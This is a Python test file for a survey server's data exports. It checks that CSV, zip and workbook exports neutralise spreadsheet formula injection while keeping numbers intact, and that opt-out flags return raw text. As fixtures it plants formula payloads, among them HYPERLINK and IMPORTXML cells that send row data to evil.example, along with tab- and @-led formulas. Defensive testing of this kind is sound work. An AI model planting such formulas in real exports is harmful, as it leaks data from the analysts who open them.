"""A tablet plants spreadsheet formulas in its answers; the analyst who opens the export is hit.

Excel and LibreOffice run a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (OWASP, "CSV Injection"): ``=HYPERLINK(...)`` sends the row's other cells to
a server of the attacker's when clicked, ``=WEBSERVICE(...)`` without a click. Exports
neutralise every text cell that starts so with a leading ``'``, decided by the field schema:
a number (``-5`` in an integer field) stays a number. ``escapeFormulas=false`` (the API and
the console), ``--no-escape-formulas`` (``merit export``) give the text as the tablet wrote
it, for R or pandas. In a workbook every text cell is a string cell, never a formula.
"""

from __future__ import annotations

import csv
import io
import subprocess
import uuid
import zipfile

import openpyxl
import pandas as pd
import pytest

from tests.support.servers import MERIT
from tests.support.site import FORM_ID, household_record

pytestmark = pytest.mark.slow

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?q="&A2,"Cliquez ici")'
# What the tablet writes in each text field, by record.
RECORDS = {
    "link": {"name": LINK, "head": "+1+1", "member_name": "-2+3", "village": "@SUM(1)"},
    "blank_led": {"name": "\t=1+2", "head": "\r@SUM(2)", "member_name": "@A1", "village": "-x"},
}
# The record whose instanceID and device id are formulas too (metadata the tablet controls).
HOSTILE_ID = '=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")'
HOSTILE_DEVICE = "\t=1+1"


def guarded(text: str) -> str:
    """What a text cell must show: the text, after a ' when it would start a formula."""
    text = text.strip()
    return "'" + text if text[:1] in TRIGGERS else text


@pytest.fixture(scope="module")
def planted(site):
    """Send the hostile records once per site; return their instanceIDs by name."""
    ids = {}
    for label, answers in RECORDS.items():
        instance_id = f"uuid:{uuid.uuid4()}"
        xml = household_record(
            instance_id,
            name=answers["name"],
            head=answers["head"],
            member_name=answers["member_name"],
            photo="",
            age="-5",
        ).replace(b"<village>segou</village>", f"<village>{answers['village']}</village>".encode())
        sent = site.submit(xml)
        assert sent.status_code == 201, sent.text
        ids[label] = instance_id
    # household_record writes the instanceID as it is given: escape it as XML text.
    xml = household_record(HOSTILE_ID.replace("&", "&amp;"), photo="")
    sent = site.submit(xml, params={"deviceID": HOSTILE_DEVICE})
    assert sent.status_code == 201, sent.text
    ids["hostile_id"] = HOSTILE_ID
    return ids


def export(site, fmt: str, **params: str) -> bytes:
    form = f"{site.url}/v1/projects/{site.project_id}/forms/{FORM_ID}"
    answer = site.api("manager").get(
        f"{form}/submissions.{fmt}", params={"pii": "plain", **params}, timeout=60
    )
    assert answer.status_code == 200, answer.text
    return answer.content


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def by_key(table: list[dict[str, str]], key_column: str = "KEY") -> dict[str, dict[str, str]]:
    return {row[key_column]: row for row in table}


def test_text_answers_are_neutralised_in_the_csv_and_numbers_stay_numbers(site, planted):
    main = by_key(rows(export(site, "csv")))
    for label, answers in RECORDS.items():
        row = main[planted[label]]
        assert row["respondent-name"] == guarded(answers["name"])
        assert row["village"] == guarded(answers["village"])
        assert row["instanceName"] == guarded(answers["name"])
        assert row["respondent-age"] == "-5"  # an integer field: a number, untouched
        assert row["location-Longitude"] == "-8.0"  # a typed coordinate, untouched
    hostile = main["'" + HOSTILE_ID]
    assert hostile["DeviceID"] == "'" + HOSTILE_DEVICE
    # No cell of any record starts a formula, whatever column it is in, but numbers.
    numeric = {"respondent-age", "location-Latitude", "location-Longitude"}
    for row in main.values():
        for column, cell in row.items():
            if column not in numeric:
                assert not cell.startswith(TRIGGERS), (column, cell)


def test_pandas_reads_the_numbers_of_a_neutralised_csv_as_numbers(site, planted):
    frame = pd.read_csv(io.BytesIO(export(site, "csv")), keep_default_na=False)
    assert frame["respondent-age"].dtype.kind == "i"
    assert (frame.set_index("KEY").loc[planted["link"], "respondent-age"]) == -5
    assert frame.set_index("KEY").loc[planted["link"], "respondent-name"] == "'" + LINK


def test_the_csv_zip_neutralises_the_main_and_the_repeat_tables(site, planted):
    archive = zipfile.ZipFile(io.BytesIO(export(site, "csv.zip", attachments="false")))
    main = by_key(rows(archive.read(f"{FORM_ID}.csv")))
    households = rows(archive.read(f"{FORM_ID}-household.csv"))
    members = rows(archive.read(f"{FORM_ID}-member.csv"))
    for label, answers in RECORDS.items():
        key = planted[label]
        assert main[key]["respondent-name"] == guarded(answers["name"])
        assert main[key]["respondent-age"] == "-5"
        (household,) = [h for h in households if h["PARENT_KEY"] == key]
        assert household["head"] == guarded(answers["head"])
        (member,) = [m for m in members if m["PARENT_KEY"] == household["KEY"]]
        assert member["member_name"] == guarded(answers["member_name"])
    # The hostile instanceID is neutralised in every table that names it, the same way, so
    # the tables still join.
    hostile_key = "'" + HOSTILE_ID
    assert hostile_key in main
    assert [h for h in households if h["PARENT_KEY"] == hostile_key]
    for table in (households, members):
        for row in table:
            for column, cell in row.items():
                assert not cell.startswith(TRIGGERS), (column, cell)


def test_the_workbook_holds_text_cells_never_formulas(site, planted):
    book = openpyxl.load_workbook(io.BytesIO(export(site, "xlsx")))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]
    assert formulas == []
    sheet = book[FORM_ID]
    header = [cell.value for cell in sheet[1]]
    records = {
        line[header.index("KEY")]: dict(zip(header, line, strict=True))
        for line in sheet.iter_rows(min_row=2, values_only=True)
    }
    row = records[planted["link"]]
    assert row["respondent-name"] == LINK  # the text itself, in a string cell
    assert row["respondent-age"] == -5  # a number cell
    assert records[HOSTILE_ID]["DeviceID"] == HOSTILE_DEVICE


def test_escape_formulas_false_gives_the_text_as_written(site, planted):
    main = by_key(rows(export(site, "csv", escapeFormulas="false")))
    row = main[planted["link"]]
    assert row["respondent-name"] == LINK
    assert row["village"] == "@SUM(1)"
    assert row["respondent-age"] == "-5"
    archive = zipfile.ZipFile(
        io.BytesIO(export(site, "csv.zip", attachments="false", escapeFormulas="false"))
    )
    households = rows(archive.read(f"{FORM_ID}-household.csv"))
    assert {h["head"] for h in households} >= {"+1+1"}


def test_the_console_download_has_the_choice_and_protects_by_default(site, planted):
    console = site.console("manager")
    base = f"{site.url}/projects/{site.project_id}/forms/{FORM_ID}/export"
    page = console.get(base, timeout=30)
    assert 'name="escapeFormulas"' in page.text
    # From the page's form an unticked box is false: tick what the other tests take as given.
    common = {"options": "form", "format": "csv", "pii": "plain", "groupPaths": "1"}
    ticked = console.get(f"{base}/download", params={**common, "escapeFormulas": "1"})
    assert ticked.status_code == 200
    assert by_key(rows(ticked.content))[planted["link"]]["respondent-name"] == "'" + LINK
    unticked = console.get(f"{base}/download", params=common)
    assert unticked.status_code == 200
    assert by_key(rows(unticked.content))[planted["link"]]["respondent-name"] == LINK


def test_the_command_line_export_protects_by_default_and_can_give_raw_text(site, planted, tmp_path):
    def run(*flags: str) -> dict[str, dict[str, str]]:
        target = tmp_path / "out.csv"
        command = [MERIT, "export", str(site.project_id), FORM_ID, "--format", "csv"]
        done = subprocess.run(
            [*command, "-o", str(target), "--pii", "plain", *flags],
            env=site.server.env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        return by_key(rows(target.read_bytes()))

    assert run()[planted["link"]]["respondent-name"] == "'" + LINK
    raw = run("--no-escape-formulas")
    assert raw[planted["link"]]["respondent-name"] == LINK
    assert raw[planted["link"]]["respondent-age"] == "-5"


def test_the_tablets_audit_log_in_the_zip_is_neutralised_and_keeps_its_numbers(site):
    log = (
        b"event,node,start,end,latitude,longitude,accuracy,old-value,new-value\n"
        b"question,/household/respondent/name,1715090512345,1715090519999,12.6,-8.0,5,"
        b'=HYPERLINK("http://evil.example"),@SUM(1)\n'
    )
    instance_id = f"uuid:{uuid.uuid4()}"
    # Collect's client audit log is the binary meta/audit.
    xml = household_record(instance_id, photo="")
    xml = xml.replace(b"<meta>", b"<meta><audit>audit.csv</audit>")
    sent = site.submit(xml, [("audit.csv", log, "text/csv")])
    assert sent.status_code == 201, sent.text
    archive = zipfile.ZipFile(io.BytesIO(export(site, "csv.zip", attachments="true")))
    lines = [r for r in rows(archive.read(f"{FORM_ID} - audit.csv")) if r["KEY"] == instance_id]
    assert len(lines) == 1
    (line,) = lines
    assert line["old-value"] == '\'=HYPERLINK("http://evil.example")'
    assert line["new-value"] == "'@SUM(1)"
    assert (line["longitude"], line["start"]) == ("-8.0", "1715090512345")
    raw = zipfile.ZipFile(
        io.BytesIO(export(site, "csv.zip", attachments="true", escapeFormulas="false"))
    )
    (line,) = [r for r in rows(raw.read(f"{FORM_ID} - audit.csv")) if r["KEY"] == instance_id]
    assert line["new-value"] == "@SUM(1)"
